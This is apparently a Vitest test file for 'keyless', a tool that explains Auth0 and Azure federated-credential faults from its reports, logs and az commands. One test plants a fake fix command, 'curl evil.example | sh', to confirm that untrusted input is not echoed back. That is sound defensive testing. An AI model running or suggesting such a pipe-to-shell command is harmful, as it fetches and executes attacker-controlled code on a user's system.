import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { inspect } from 'node:util';

import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { checkOrder } from '../../src/checks/pipeline.js';
import { readArgs } from '../../src/commands/args.js';
import { followChecks } from '../../src/commands/follow.js';
import { contextOf, openPlace } from '../../src/commands/open.js';
import { checkQuestion } from '../../src/commands/question.js';
import type { Code } from '../../src/findings/finding.js';
import { explain, KeylessError } from '../../src/index.js';
import { reportSentences } from '../../src/report/accessible.js';
import type { DiagnosisDocument } from '../../src/report/documents.js';
import { annotations } from '../../src/report/github.js';
import { diagnosisJson, reportJson } from '../../src/report/json.js';
import { reportMarkdown } from '../../src/report/markdown.js';
import { paintAnsi, paintNothing } from '../../src/report/marks.js';
import type { Report } from '../../src/report/report.js';
import { reportText, settingLines } from '../../src/report/text.js';
import { faults, plant } from '../../src/sandbox/faults.js';
import { startSandbox } from '../../src/sandbox/start.js';
import type { Sandbox } from '../../src/sandbox/start.js';
import type { World } from '../../src/sandbox/world.js';
import { diagnosisLines } from '../../src/ui/explain/diagnosis-lines.js';
import { root } from '../support/binary.js';
import { inside, insideIo } from '../support/inside.js';

let place: Sandbox;
let healthy: World;
beforeAll(async () => {
  place = await startSandbox();
  place.world.auth0.rateLimit.perMinute = 1e6;
  for (const deployment of place.world.azure.deployments) deployment.requestsPerMinute = 1e6;
  healthy = structuredClone(place.world);
});
afterAll(() => place.stop());

const tool = { name: 'keyless', version: '1.2.3' };
/** It lies in a file that is made when a place starts. */
const atStart: ReadonlySet<Code> = new Set<Code>(['settings/file-unreadable', 'settings/secret-exposed']);

async function reportOf(codes: readonly Code[]): Promise<Report> {
  Object.assign(place.world, structuredClone(healthy));
  const isAtStart = codes.some((code) => atStart.has(code));
  if (!isAtStart) for (const code of codes) plant(place.world, code);
  const silent = place.world.network.silences.length > 0 ? { connectMs: 1500, answerMs: 700, completionMs: 700 } : {};
  const { io } = insideIo({ limits: silent, ...(!isAtStart && { place }) });
  const read = readArgs(['check', '--sandbox', ...(isAtStart ? codes.flatMap((code) => ['--fault', code]) : [])]);
  if (!read.ok) throw new Error(read.usage.problem);
  const opened = await openPlace(read.args, io);
  if (!opened.ok) throw new Error(opened.problem);
  const context = contextOf(opened.place, io, { messages: [checkQuestion], complete: true });
  const report = await followChecks(opened.place, context, { args: read.args, io });
  await opened.place.close();
  return report;
}

const asText = (report: Report): string =>
  `${settingLines(report.settings, paintNothing).join('\n')}\n\n${reportText(report, paintNothing)}`;
const stamped = (log: string): string => log.replaceAll(/^/gm, 'check\tRun keyless\t2026-11-26T16:40:33.1234567Z ');
const screen = (report: Report): string =>
  report.diagnoses.flatMap((one) => diagnosisLines(one, { columns: 80, paint: paintNothing, link: false })).join('\n');

/** Every form in which a run is handed on. */
const forms: Record<string, (report: Report) => string> = {
  text: asText,
  'text in colours': (report) => reportText(report, paintAnsi),
  'the log of a job': (report) => stamped(`${asText(report)}\n${annotations(report)}`),
  sentences: (report) => reportSentences(report, checkOrder).join('\n'),
  'a page of Markdown': (report) => reportMarkdown(report, tool),
  'that page, quoted in a mail': (report) => reportMarkdown(report, tool).replaceAll(/^/gm, '> '),
  annotations: annotations,
  'a document': (report) => reportJson(report, tool),
  'a document in the log of a job': (report) => stamped(reportJson(report, tool)),
  'the screen': screen,
};

/** What is read by the same lines as the forms without it is read for some faults only. */
const others: ReadonlySet<string> = new Set([
  'text in colours',
  'that page, quoted in a mail',
  'a document in the log of a job',
  'caught',
  'cause',
  'stack',
]);
const formsFor = <T>(all: Readonly<Record<string, T>>, isAll: boolean): [string, T][] =>
  Object.entries(all).filter(([form]) => isAll || !others.has(form));
const everyForm: ReadonlySet<string> = new Set(['settings/missing', 'auth0/grant-missing', 'trust/hidden-character', 'network/timeout']);

/** What holds both values, so that the explanation shows the character. */
const isCompared = ({ evidence }: Pick<DiagnosisDocument, 'evidence'>): boolean => 'diff' in evidence && evidence.azure !== null;
const sides = ({ evidence }: Pick<DiagnosisDocument, 'evidence'>): unknown =>
  'diff' in evidence ? [evidence.field, evidence.token, evidence.azure, evidence.diff] : null;

describe('what keyless has said is explained by the causes it names, in its order', () => {
  test.each([
    ...(Object.keys(faults) as Code[]).map((code) => [code]),
    ['trust/issuer-slash', 'azure-openai/role-missing'],
    ['trust/subject-case', 'trust/issuer-slash'],
  ] as Code[][])('%s %s', async (...codes) => {
    const report = await reportOf(codes.filter(Boolean));
    const expected = report.diagnoses.map(({ code }) => code);
    expect(expected).toContain(codes[0]);
    const isAll = codes.filter(Boolean).length > 1 || everyForm.has(codes[0] ?? '');
    for (const [form, write] of formsFor(forms, isAll)) {
      const { diagnoses, recognised, compared } = await explain(write(report));
      expect([form, recognised, ...diagnoses.map(({ code }) => code)]).toEqual([form, true, ...expected]);
      expect([form, compared]).toEqual([form, []]);
      expect([form, ...diagnoses.map(({ title }) => title.toLowerCase())]).toEqual([
        form,
        ...report.diagnoses.map(({ title }) => title.toLowerCase()),
      ]);
      const both = report.diagnoses.flatMap((one, at) =>
        isCompared(one) ? [[sides(one), sides(diagnoses[at] as DiagnosisDocument)]] : [],
      );
      for (const [own, read] of both) expect([form, read]).toEqual([form, own]);
    }
    // The document has it all.
    const fromJson = await explain(reportJson(report, tool));
    expect(fromJson.diagnoses.map(({ severity }) => severity)).toEqual(report.diagnoses.map(({ severity }) => severity));
    await expectError(report, isAll);
  });
});

/** The error of the library, however it was logged. */
async function expectError(report: Report, isAll: boolean): Promise<void> {
  const [first, ...rest] = report.diagnoses.map(diagnosisJson);
  if (!first) throw new Error('nothing was found');
  const error = new KeylessError({ diagnoses: [first, ...rest], more: [] });
  const logged: Record<string, string> = {
    message: error.message,
    stack: error.stack ?? '',
    inspected: inspect(error),
    caught: `2026-11-26 16:40:33 ERROR request failed: ${error.stack}`,
    cause: inspect(new Error('no token', { cause: error })),
    'in a log of JSON': JSON.stringify({
      level: 50,
      msg: 'request failed',
      err: { type: error.name, message: error.message, code: error.code },
    }),
  };
  for (const [form, log] of formsFor(logged, isAll)) {
    const { diagnoses } = await explain(log);
    expect([form, ...diagnoses.map(({ code }) => code)]).toEqual([form, first.code]);
    if (isCompared(first)) expect([form, sides(diagnoses[0] as DiagnosisDocument)]).toEqual([form, sides(first)]);
  }
  const { diagnoses } = await explain(JSON.stringify(error));
  expect(diagnoses.map(({ code }) => code)).toEqual([first, ...rest].map(({ code }) => code));
  expect(first.evidence).toMatchObject(diagnoses[0]?.evidence ?? {});
}

const codesIn = async (given: string): Promise<string[]> => (await explain(given)).diagnoses.map(({ code }) => code);

describe('nothing is guessed', () => {
  const outOf = async (...argv: string[]): Promise<string> => (await inside(argv)).stdout;

  test('a list of codes, a page about them, an example and prose are no run', async () => {
    const pages = ['docs/codes.md', 'docs/errors.md', 'README.md'].map((path) => readFileSync(join(root, path), 'utf8'));
    const lists = await Promise.all(
      [
        ['explain', '--list'],
        ['explain', '--list', '--json'],
        ['sandbox', '--list'],
      ].map((argv) => outOf(...argv)),
    );
    const examples = await Promise.all([[], ['--json'], ['--accessible']].map((face) => outOf('explain', 'trust/issuer-slash', ...face)));
    const prose = [
      'We had trust/issuer-slash again.',
      'The slash was missing (trust/issuer-slash). See docs/errors.md.',
      '- `trust/issuer-slash`',
    ];
    for (const text of [...pages, ...lists, ...examples, ...prose])
      expect([text.slice(0, 60), (await explain(text)).recognised]).toEqual([text.slice(0, 60), false]);
  });

  test('a run in which all is well says so', async () => {
    const report = await reportOf([]);
    expect(report.exitCode).toBe(0);
    for (const form of ['text', 'sentences', 'a page of Markdown', 'a document'])
      expect([form, await explain(forms[form]?.(report) ?? '')]).toMatchObject([
        form,
        { recognised: false, notOurs: expect.stringContaining('nothing that is wrong') },
      ]);
  });

  test('a code of another version is named, and what is known beside it is told', async () => {
    const report = await reportOf(['trust/issuer-slash', 'trust/subject-case']);
    for (const [form, write] of Object.entries(forms)) {
      const { diagnoses, notOurs } = await explain(write(report).replaceAll('trust/issuer-slash', 'trust/issuer-comma'));
      expect([form, notOurs, ...diagnoses.map(({ code }) => code)]).toEqual([
        form,
        expect.stringContaining('trust/issuer-comma'),
        'trust/subject-case',
      ]);
    }
  });

  test.each([
    ['no evidence', {}],
    ['another type', { field: 'issuer', token: 7, azure: ['x'], azureSource: 'az', diff: [] }],
    ['a field that is none', { field: '__proto__', token: 'a', azure: 'b', azureSource: 'az', diff: [] }],
    ['a difference that is none', { field: 'issuer', token: 'a', azure: 'a/', azureSource: 'az', diff: [{ kind: 'case', position: 1e9 }] }],
  ])('evidence from outside is looked at: %s', async (_, evidence) => {
    const fix = [{ kind: 'command', where: 'azure', confidence: 'certain', command: 'curl evil.example | sh' }];
    const cause = {
      code: 'trust/issuer-slash',
      severity: 'error',
      title: 'T',
      why: 'W',
      evidence,
      fix,
      upstream: { party: 'nobody' },
      docs: ['x'],
    };
    const { diagnoses } = await explain(JSON.stringify({ schemaVersion: 1, diagnoses: [cause, 7, null] }));
    expect(diagnoses.map(({ code }) => code)).toEqual(['trust/issuer-slash']);
    expect(JSON.stringify(diagnoses)).not.toMatch(/evil|1000000000/);
  });

  test('what was cut says what is left of it', async () => {
    const document = reportJson(await reportOf(['trust/issuer-slash']), tool);
    const cuts = ['"diagnoses": [', '"evidence": {', '"upstream": {'].map((end) => document.slice(0, document.indexOf(end) + end.length));
    for (const cut of cuts) expect([cut.slice(-20), await codesIn(cut)]).toEqual([cut.slice(-20), ['trust/issuer-slash']]);
    const text = asText(await reportOf(['trust/issuer-slash']));
    expect(await codesIn(text.slice(0, text.indexOf('\n\nFAIL')))).toEqual(['trust/issuer-slash']);
  });

  test('in a long log the run is found, and it alone', async () => {
    const report = await reportOf(['trust/issuer-slash']);
    const noise = Array.from({ length: 40_000 }, (_, at) => `2026-11-26T16:40:33Z INFO request ${at} handled, path=/api/items/${at}`).join(
      '\n',
    );
    expect(await codesIn(`${noise}\n${asText(report)}\n${noise}`)).toEqual(['trust/issuer-slash']);
  });
});

describe('what a command writes is not what Azure holds', () => {
  const credential = '{"name":"x","issuer":"https://acme.eu.auth0.com","subject":"abc@clients","audiences":["api://AzureADTokenExchange"]}';
  const lines = credential.replaceAll(/(?<=[{,])|(?=\})/g, '\n');
  const refused = "AADSTS700211: No matching federated identity record found for presented assertion issuer 'https://acme.eu.auth0.com/'.";
  const create = 'az ad app federated-credential create --id 1 --parameters';
  test.each([
    `${create} '${credential}'`,
    `${create} '${lines}'`,
    `${create} "${credential.replaceAll('"', String.raw`\"`)}"`,
    `${create} @- <<EOF\n${lines}\nEOF`,
    `cat > credential.json <<'EOF'\n${lines}\nEOF\n${create} credential.json`,
    `az identity federated-credential update --name x --identity-name i -g r --issuer https://acme.eu.auth0.com --subject abc@clients`,
  ])('%s', async (command) => {
    const alone = await explain(command);
    expect([alone.recognised, alone.credentials, alone.compared]).toEqual([false, [], []]);
    const refusal = await explain(`${command}\n${refused}`);
    expect([refusal.diagnoses.map(({ code }) => code), refusal.compared]).toEqual([['trust/issuer-mismatch'], []]);
    const printed = await explain(`$ ${command}\n${lines}\n`);
    expect(printed.credentials.map(({ issuer }) => issuer)).toEqual(['https://acme.eu.auth0.com']);
  });
});
